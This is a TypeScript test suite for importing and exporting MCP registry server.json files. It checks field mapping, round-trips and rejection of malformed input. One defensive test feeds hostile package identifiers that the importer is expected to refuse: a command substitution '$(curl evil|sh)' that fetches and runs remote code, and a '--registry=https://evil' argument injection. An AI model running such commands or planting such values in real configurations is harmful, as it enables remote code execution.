import { expect } from 'chai';
import fc from 'fast-check';
import { parseMcpConfig } from '../../src/domain/parseMcpConfig.js';
import type { McpConfig } from '../../src/domain/mcpConfig.js';
import { isCatwalkError } from '../../src/errors/index.js';
import { SERVER_JSON_SCHEMA_URL, exportServerJson, importServerJson, readServerJson } from '../../src/serverJson/index.js';

/** A server.json in the 2025-12-11 shape, as the registry docs show it. */
function weatherServerJson(): Record<string, unknown> {
  return {
    $schema: SERVER_JSON_SCHEMA_URL,
    name: 'io.github.example/weather',
    title: 'Weather',
    description: 'Forecasts from OpenWeather',
    version: '1.4.0',
    repository: { url: 'https://github.com/example/weather', source: 'github' },
    packages: [
      { registryType: 'oci', identifier: 'docker.io/example/weather', version: '1.4.0', transport: { type: 'stdio' } },
      {
        registryType: 'npm',
        registryBaseUrl: 'https://registry.npmjs.org',
        identifier: '@example/weather-mcp',
        version: '1.4.0',
        runtimeHint: 'npx',
        transport: { type: 'stdio' },
        packageArguments: [
          { type: 'positional', value: 'serve' },
          { type: 'named', name: '--units', value: 'metric', description: 'Unit system' },
          { type: 'positional', valueHint: 'data_dir', description: 'Where to keep data' },
          { type: 'named', name: '--region', default: 'eu' },
        ],
        environmentVariables: [
          { name: 'OPENWEATHER_API_KEY', description: 'API key', isRequired: true, isSecret: true },
          { name: 'WEATHER_UNITS', description: 'Units', format: 'string', default: 'metric', choices: ['metric', 'imperial'] },
          { name: 'CACHE_DIR', format: 'filepath' },
          { name: 'lowercase_name', description: 'not an env name Catwalk accepts' },
          { name: 'FIXED', value: 'always-this' },
        ],
      },
    ],
  };
}

function expectError(run: () => unknown, code: string): Record<string, unknown> {
  try {
    run();
  } catch (error) {
    expect(isCatwalkError(error), String(error)).to.equal(true);
    expect((error as { code: string }).code).to.equal(code);
    return (error as { details: Record<string, unknown> }).details;
  }
  throw new Error(`expected ${code}`);
}

describe('importServerJson', function () {
  it('imports the first npm/PyPI package: identifier, version, transport, env vars, arguments', function () {
    const config = importServerJson(weatherServerJson());
    expect(config.name).to.equal('io.github.example/weather');
    expect(config.description).to.equal('Forecasts from OpenWeather');
    expect(config.package).to.deep.equal({ runtime: 'npm', name: '@example/weather-mcp', version: '1.4.0' });
    expect(config.transport).to.equal('stdio');
    expect(config.args).to.deep.equal(['serve', '--units', 'metric', '--region', 'eu']);
    expect(config.envVars).to.deep.equal([
      { name: 'OPENWEATHER_API_KEY', description: 'API key', required: true, secret: true },
      { name: 'WEATHER_UNITS', description: 'Units', required: false, secret: false, default: 'metric', format: 'string', choices: ['metric', 'imperial'] },
      { name: 'CACHE_DIR', description: '', required: false, secret: false, format: 'filepath' },
      { name: 'FIXED', description: '', required: false, secret: false },
    ]);
    expect(config.analyzers).to.deep.equal(['server.json']);
    expect(config.evidence.map((e) => e.field)).to.include.members(['package', 'runtime', 'transport', 'env.OPENWEATHER_API_KEY']);
    expect(config.evidence.every((e) => e.analyzer === 'server.json' && e.file === 'server.json' && e.confidence === 'high')).to.equal(true);
  });

  it('reports everything it could not represent', function () {
    const { unrepresented, packageIndex } = readServerJson(weatherServerJson());
    expect(packageIndex).to.equal(1);
    const paths = unrepresented.map((u) => u.path);
    expect(paths).to.include.members([
      'packages[0]',
      'packages[1].packageArguments[2]',
      'packages[1].environmentVariables[3]',
      'packages[1].environmentVariables[4].value',
      'packages[1].registryBaseUrl',
      'repository',
      'title',
    ]);
  });

  it('maps PyPI packages to the python runtime with a PEP 503 name, and HTTP transports to streamable-http', function () {
    const doc = {
      name: 'io.github.example/py',
      description: 'A Python server',
      version: '2.0.0',
      packages: [{ registryType: 'pypi', identifier: 'Example_Weather.MCP', version: '2.0.0rc1', transport: { type: 'sse', url: 'http://localhost:{PORT}/sse' } }],
    };
    const { config, unrepresented } = readServerJson(doc);
    expect(config.package).to.deep.equal({ runtime: 'python', name: 'example-weather-mcp', version: '2.0.0rc1' });
    expect(config.transport).to.equal('streamable-http');
    expect(unrepresented.map((u) => u.path)).to.include.members(['packages[0].transport.url', 'packages[0].transport.type']);
  });

  it('gives a config without a package when nothing is runnable by Catwalk', function () {
    const config = importServerJson({
      name: 'io.github.example/remote-only',
      description: 'Hosted elsewhere',
      version: '1.0.0',
      remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/mcp' }],
    });
    expect(config.package).to.equal(null);
  });

  it('refuses hostile identifiers and version ranges with the parsers user input goes through', function () {
    const withPackage = (identifier: string, version: string) => ({
      name: 'io.github.evil/x',
      description: 'x',
      version: '1.0.0',
      packages: [{ registryType: 'npm', identifier, version, transport: { type: 'stdio' } }],
    });
    expectError(() => importServerJson(withPackage('$(curl evil|sh)', '1.0.0')), 'invalid_package_name');
    expectError(() => importServerJson(withPackage('--registry=https://evil', '1.0.0')), 'invalid_package_name');
    expectError(() => importServerJson(withPackage('ok-server', '^1.0.0')), 'invalid_package_name');
    expectError(() => importServerJson(withPackage('ok-server', 'latest')), 'invalid_package_name');
  });

  it('refuses malformed documents with invalid_input and the path of the problem', function () {
    expect((expectError(() => importServerJson({ description: 'x', version: '1' }), 'invalid_input')['issues'] as { path: string }[])[0]!.path).to.equal('name');
    expectError(() => importServerJson({ name: 'no-slash', description: 'x', version: '1' }), 'invalid_input');
    expectError(() => importServerJson({ name: 'a/b', description: 'x', version: '1', packages: 'nope' }), 'invalid_input');
    expectError(() => importServerJson({ name: 'a/b', description: 'x', version: '1', packages: [{ registryType: 'npm', identifier: 'x' }] }), 'invalid_input');
    expectError(() => importServerJson('{"name": "a/b"}'), 'invalid_input');
    expectError(() => importServerJson(null), 'invalid_input');
    expectError(() => importServerJson({ name: 'a/b', description: 'x'.repeat(5000), version: '1' }), 'invalid_input');
  });
});

describe('exportServerJson', function () {
  const base: McpConfig = parseMcpConfig({
    name: 'io.github.example/notes',
    description: 'Notes',
    package: { runtime: 'npm', name: '@example/notes', version: '1.0.0' },
    envVars: [{ name: 'NOTES_TOKEN', required: true, secret: true, description: 'Token' }],
    args: ['--read-only'],
    tools: [{ name: 'add_note', description: 'Adds a note' }],
  });

  it('writes a document in the registry format', function () {
    const doc = exportServerJson(base, { repository: { url: 'https://github.com/example/notes', source: 'github' } });
    expect(doc).to.deep.equal({
      $schema: SERVER_JSON_SCHEMA_URL,
      name: 'io.github.example/notes',
      description: 'Notes',
      version: '1.0.0',
      repository: { url: 'https://github.com/example/notes', source: 'github' },
      packages: [
        {
          registryType: 'npm',
          identifier: '@example/notes',
          version: '1.0.0',
          runtimeHint: 'npx',
          transport: { type: 'stdio' },
          packageArguments: [{ type: 'positional', value: '--read-only' }],
          environmentVariables: [{ name: 'NOTES_TOKEN', description: 'Token', isRequired: true, isSecret: true }],
        },
      ],
      _meta: { 'io.modelcontextprotocol.registry/publisher-provided': { 'ai.catwalk/capabilities': { tools: [{ name: 'add_note', description: 'Adds a note' }] } } },
    });
  });

  it('refuses configs that cannot form a valid document', function () {
    expectError(() => exportServerJson({ ...base, name: 'not reverse dns' }), 'invalid_input');
    expectError(() => exportServerJson({ ...base, package: { runtime: 'npm', name: '@example/notes' } }), 'invalid_input');
    expectError(() => exportServerJson({ ...base, package: null }), 'invalid_input');
    expect(exportServerJson({ ...base, package: null }, { version: '0.1.0' })['packages']).to.equal(undefined);
  });

  it('round-trips a registry document made only of representable fields', function () {
    const doc = exportServerJson(base);
    expect(exportServerJson(importServerJson(JSON.parse(JSON.stringify(doc))))).to.deep.equal(doc);
  });

  it('round-trips every McpConfig field it represents (property)', function () {
    const envVar = fc.record(
      {
        name: fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,20}$/),
        description: fc.string({ maxLength: 50 }),
        required: fc.boolean(),
        secret: fc.boolean(),
        default: fc.string({ maxLength: 20 }),
        format: fc.constantFrom('string', 'number', 'boolean', 'filepath', 'url'),
        choices: fc.array(fc.string({ maxLength: 10 }), { maxLength: 4 }),
      },
      { requiredKeys: ['name', 'description', 'required', 'secret'] },
    );
    const semver = fc.tuple(fc.nat(50), fc.nat(50), fc.nat(50)).map(([a, b, c]) => `${a}.${b}.${c}`);
    const pkg = fc.oneof(
      fc.record({ runtime: fc.constant('npm' as const), name: fc.constantFrom('@scope/server-x', 'plain-server', 'a.b_c'), version: semver }),
      fc.record({ runtime: fc.constant('python' as const), name: fc.constantFrom('mcp-server-time', 'x1'), version: semver }),
    );
    const config = fc.record({
      name: fc.stringMatching(/^[a-z0-9.-]{1,20}\/[a-zA-Z0-9._-]{1,20}$/),
      description: fc.string({ maxLength: 200 }),
      package: pkg,
      transport: fc.constantFrom('stdio' as const, 'streamable-http' as const),
      envVars: fc.uniqueArray(envVar, { selector: (v) => v.name, maxLength: 6 }),
      args: fc.array(fc.string({ maxLength: 20 }).filter((s) => !s.includes('\u0000')), { maxLength: 5 }),
      tools: fc.array(fc.record({ name: fc.string({ minLength: 1, maxLength: 20 }), description: fc.string({ maxLength: 30 }) }, { requiredKeys: ['name'] }), { maxLength: 4 }),
      resources: fc.array(fc.record({ uri: fc.webUrl(), name: fc.string({ maxLength: 10 }) }, { requiredKeys: ['uri'] }), { maxLength: 2 }),
      prompts: fc.array(fc.record({ name: fc.string({ maxLength: 10 }), description: fc.string({ maxLength: 10 }) }, { requiredKeys: ['name'] }), { maxLength: 2 }),
    });
    fc.assert(
      fc.property(config, (input) => {
        const original = parseMcpConfig(input);
        const back = importServerJson(JSON.parse(JSON.stringify(exportServerJson(original))));
        expect({ ...back, evidence: [], analyzers: [] }).to.deep.equal({ ...original, evidence: [], analyzers: [] });
      }),
      { numRuns: 200 },
    );
  });
});
